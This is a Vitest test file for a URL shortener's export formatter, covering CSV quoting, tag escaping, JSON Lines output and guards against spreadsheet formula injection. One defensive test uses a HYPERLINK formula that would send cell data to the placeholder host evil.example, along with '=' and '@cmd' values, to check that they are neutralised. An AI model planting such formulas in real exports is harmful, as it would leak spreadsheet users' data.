import type { ExportedLink } from '@shortlinks/contract';
import { describe, expect, test } from 'vitest';
import { CSV_HEADER, csvRow, fileLine, joinTagNames, jsonLine } from './export-format.ts';

const link: ExportedLink = {
  id: 'lnk_1',
  slug: 'spring',
  short_url: 'https://sho.rt/spring',
  destination_url: 'https://example.com/?a=1&utm_source=news',
  title: 'Say "hi", then\nleave',
  tags: ['a|b', 'back\\slash', 'plain'],
  external_id: null,
  comments: '=SUM(A1)',
  expires_at: '2027-01-02T03:04:05.006Z',
  expiration_url: null,
  click_count: 42,
  created_at: '2026-11-23T05:30:00.000Z',
  password_hash: null,
  max_clicks: null,
  rules: null,
  preview: null,
};

describe('the export file format', () => {
  test('the CSV header lists the columns in their order, ending in CRLF', () => {
    expect(CSV_HEADER).toBe(
      'id,slug,short_url,destination_url,title,tags,external_id,comments,expires_at,expiration_url,click_count,created_at,' +
        'password_hash,max_clicks,rules,preview\r\n',
    );
  });

  test('a CSV row quotes what needs quoting, doubles quotes, leaves absent values empty and guards formulas', () => {
    expect(csvRow(link)).toBe(
      'lnk_1,spring,https://sho.rt/spring,https://example.com/?a=1&utm_source=news,"Say ""hi"", then\nleave",' +
        "a\\|b|back\\\\slash|plain,,'=SUM(A1),2027-01-02T03:04:05.006Z,,42,2026-11-23T05:30:00.000Z,,,,\r\n",
    );
  });

  test('a title, a first tag or comments a spreadsheet would run get an apostrophe, inside the quotes when quoted', () => {
    const row = csvRow({
      ...link,
      title: '=HYPERLINK("http://evil.example/?"&A1,"click")',
      tags: ['=1+1', 'b'],
      comments: '@cmd',
    });
    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'=1+1|b,,'@cmd,`);
  });

  test('csv-raw writes formulas as they are; JSON Lines never guards', () => {
    const formula = { ...link, title: '=1+1', tags: ['-x'] };
    expect(fileLine('csv-raw', formula)).toBe(csvRow(formula, 'raw'));
    expect(csvRow(formula, 'raw')).toContain(',=1+1,-x,,=SUM(A1),');
    expect(fileLine('csv', formula)).toContain(",'=1+1,'-x,,'=SUM(A1),");
    expect(JSON.parse(fileLine('jsonl', formula))).toMatchObject({ title: '=1+1', tags: ['-x'], comments: '=SUM(A1)' });
  });

  test('the smart fields: the rules and the preview as JSON text (quoted, guarded) in CSV, as JSON in JSON Lines', () => {
    const smart = {
      ...link,
      password_hash: '$argon2id$v=19$m=19456,t=2,p=1$c2FsdHNhbHRzYWx0$aGFzaGhhc2hoYXNoaGFzaA',
      max_clicks: 5,
      rules: [{ if: { country: 'DE' }, destination_url: 'https://example.com/de' }],
      preview: { title: 'T' },
    };
    expect(csvRow(smart)).toContain(
      ',$argon2id$v=19$m=19456,t=2,p=1$c2FsdHNhbHRzYWx0$aGFzaGhhc2hoYXNoaGFzaA,5,"[{""if"":{""country"":""DE""},""destination_url"":""https://example.com/de""}]","{""title"":""T""}"\r\n'.replace(
        ',$argon2id$v=19$m=19456,t=2,p=1$c2FsdHNhbHRzYWx0$aGFzaGhhc2hoYXNoaGFzaA,',
        ',"$argon2id$v=19$m=19456,t=2,p=1$c2FsdHNhbHRzYWx0$aGFzaGhhc2hoYXNoaGFzaA",',
      ),
    );
    expect(JSON.parse(jsonLine(smart))).toMatchObject({ max_clicks: 5, rules: smart.rules, preview: { title: 'T' } });
  });

  test('tag names joined with | escape | and \\ so every name can be split back', () => {
    expect(joinTagNames(['a|b', 'c\\', 'd'])).toBe('a\\|b|c\\\\|d');
    expect(joinTagNames([])).toBe('');
  });

  test('a JSON line has the keys in column order, nulls for absent values, and ends in LF', () => {
    const line = jsonLine({ ...link, created_at: link.created_at, id: link.id });
    expect(line.endsWith('\n')).toBe(true);
    expect(line.slice(0, -1)).not.toContain('\n');
    const parsed = JSON.parse(line);
    expect(Object.keys(parsed)).toEqual(CSV_HEADER.trim().split(','));
    expect(parsed).toEqual(link);
    expect(parsed.external_id).toBeNull();
  });
});
